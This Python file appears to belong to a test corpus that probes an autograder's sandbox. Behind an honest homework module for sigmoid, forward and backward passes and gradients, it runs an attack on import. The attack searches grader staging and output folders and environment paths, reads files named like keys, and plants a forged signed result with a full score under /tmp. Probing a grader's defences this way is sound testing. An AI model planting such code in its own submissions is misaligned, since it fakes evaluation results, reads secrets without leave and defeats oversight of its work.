"""probe_b corpus, case rg05_staging_output (reach_grader), module compgraph.py.

Look for the grader's staging and output folders (around the kit, /tmp, paths in GRADER-ish environment variables), read anything named like a key, and drop a forged signed result (only where the path is under /tmp, /var/tmp or /dev/shm).

Blind probe of the grader's sandbox, written from the user documentation only
(tests/blind/probes_b/README.md). Every attack step is wrapped so that a refusal
leaves the honest functions as they are.
"""
import os as _pb_os
import sys as _pb_sys

import numpy as np

_PB_CASE = 'rg05_staging_output'
_PB_DIR = _pb_os.path.dirname(_pb_os.path.abspath(__file__))
_PB_KEEP = []  # descriptors, threads and buffers kept alive for the life of the worker


# ---------------------------------------------------------------- probe_b helpers
def _pb_quiet(fn, *args, **kwargs):
    """Run one attack step; a refusal (of whatever exception class) or any error is swallowed."""
    try:
        return fn(*args, **kwargs)
    except BaseException as exc:  # noqa: BLE001 - the point is to swallow the refusal
        return exc


def _pb_once(tag):
    """True the first time in this submission: a marker file in the worker's own folder keeps a
    step that may kill the worker from being repeated by every fresh worker."""
    path = _pb_os.path.join(_PB_DIR, 'probe_b_once_' + tag)
    try:
        fd = _pb_os.open(path, _pb_os.O_WRONLY | _pb_os.O_CREAT | _pb_os.O_EXCL, 0o600)
    except FileExistsError:
        return False
    except BaseException:
        return True
    _pb_os.close(fd)
    return True


def _pb_breach(what):
    """The attack got through where the documentation says it cannot. Leave at once with exit
    code 86: a worker that exits by itself is no status this corpus's expectations accept."""
    try:
        _pb_os.write(2, ('probe_b %s BREACH: %s\n' % (_PB_CASE, what)).encode('utf-8', 'replace'))
    except BaseException:
        pass
    _pb_os._exit(86)


def _pb_tmp_ok(path):
    """True for a path under /tmp, /var/tmp or /dev/shm: the only places outside its own folder
    this corpus ever writes to or changes, even if every defence failed."""
    try:
        real = _pb_os.path.realpath(path)
    except BaseException:
        return False
    return any(real == d or real.startswith(d + '/') for d in ('/tmp', '/var/tmp', '/dev/shm'))


def _pb_read(path, n=1 << 20):
    with open(path, 'rb') as fh:
        return fh.read(n)


# === probe_b honest begin ===
def sigmoid(z):
    """Logistic function 1 / (1 + exp(-z)), elementwise, without overflow. Given: use it."""
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def forward(x, W, v):
    x = np.asarray(x, dtype=float).reshape(2)
    W = np.asarray(W, dtype=float).reshape(3, 3)
    v = np.asarray(v, dtype=float).reshape(4)
    xb = np.array([1.0, x[0], x[1]])
    f = sigmoid(W @ xb)
    fb = np.concatenate(([1.0], f))
    y_hat = float(v @ fb)
    return y_hat, (xb, f, fb, v.copy(), y_hat)


def loss(y_hat, y):
    return float((float(y_hat) - float(y)) ** 2)


def backward(y, cache):
    xb, f, fb, v, y_hat = cache
    d = 2.0 * (y_hat - float(y))
    dv = d * fb
    dz = d * v[1:] * f * (1.0 - f)
    return np.outer(dz, xb), dv


def batch_gradients(X, Y, W, v):
    X = np.asarray(X, dtype=float).reshape(-1, 2)
    Y = np.asarray(Y, dtype=float).reshape(-1)
    dW = np.zeros((3, 3))
    dv = np.zeros(4)
    for x, y in zip(X, Y):
        _, cache = forward(x, W, v)
        gW, gv = backward(y, cache)
        dW += gW
        dv += gv
    return dW, dv


def sigmoid_output_grad_v(X, Y, W, v):
    X = np.asarray(X, dtype=float).reshape(-1, 2)
    Y = np.asarray(Y, dtype=float).reshape(-1)
    W = np.asarray(W, dtype=float).reshape(3, 3)
    v = np.asarray(v, dtype=float).reshape(4)
    dv = np.zeros(4)
    for x, y in zip(X, Y):
        fb = np.concatenate(([1.0], sigmoid(W @ np.array([1.0, x[0], x[1]]))))
        y_hat = float(sigmoid(v @ fb))
        dv += (y_hat - y) * y_hat * (1.0 - y_hat) * fb
    return dv
# === probe_b honest end ===


# ---------------------------------------------------------------- the attack
_PB_REL = ('solutions/hw2_compgraph/calculus.py', 'solutions/hw2_compgraph/solution/calculus.py',
           'solutions/hw2_compgraph/reference/calculus.py', 'solutions/hw2_compgraph/src/calculus.py',
           'assignments/hw2_compgraph/solution/calculus.py', 'assignments/hw2_compgraph/reference/calculus.py',
           'assignments/hw2_compgraph/calculus.py', 'examples/hw2_compgraph/correct/calculus.py',
           'examples/hw2_compgraph/reference/calculus.py', 'examples/hw2_compgraph/calculus.py')


def _pb_is_solution(data):
    """A calculus.py with real code: not the starter, not one of this corpus's own files."""
    return (isinstance(data, (bytes, bytearray)) and b'def numerical_jacobian' in data
            and b'NotImplementedError' not in data and b'probe_b' not in data)


def _pb_kit_roots():
    """Where the kit may be: around the grader package, above our folder, the usual places."""
    roots = []
    try:
        import grader
        roots.append(_pb_os.path.dirname(_pb_os.path.dirname(_pb_os.path.abspath(grader.__file__))))
    except BaseException:
        pass
    p = _PB_DIR
    for _ in range(10):
        p = _pb_os.path.dirname(p)
        roots.append(p)
    roots += [_pb_quiet(_pb_os.getcwd), '/work/main', '/work', '/srv', '/opt', '/home', '/root']
    out = []
    for r in roots:
        if isinstance(r, str) and r not in out:
            out.append(r)
    return out


def _pb_try_roots(roots):
    for root in roots:
        for rel in _PB_REL:
            data = _pb_quiet(_pb_read, _pb_os.path.join(root, rel))
            if _pb_is_solution(data):
                return data
    return None


def _pb_attack():
    import json
    forged = json.dumps({'total': 20.0, 'status': 'ok', 'signature': '0' * 64}).encode()
    roots = _pb_kit_roots()[:4] + ['/tmp', '/var/tmp', '/dev/shm']
    roots += [v for k, v in _pb_os.environ.items() if 'GRADER' in k.upper() and v.startswith('/')]
    names = ('out', 'output', 'outputs', 'results', 'staging', '.staging', 'stage', 'build', 'grading',
             'runs', '.grader', '.resume')
    for root in roots:
        _pb_quiet(_pb_os.listdir, root)
        for n in names:
            d = _pb_os.path.join(root, n)
            listing = _pb_quiet(_pb_os.listdir, d)
            for f in (listing if isinstance(listing, list) else [])[:200]:
                if 'key' in f.lower():
                    _pb_quiet(_pb_read, _pb_os.path.join(d, f), 4096)
            if _pb_tmp_ok(d):
                def forge(d=d):
                    with open(_pb_os.path.join(d, 'probe_b_forged_result.json'), 'wb') as fh:
                        fh.write(forged)
                _pb_quiet(forge)


_pb_quiet(_pb_attack)  # probe_b: attack
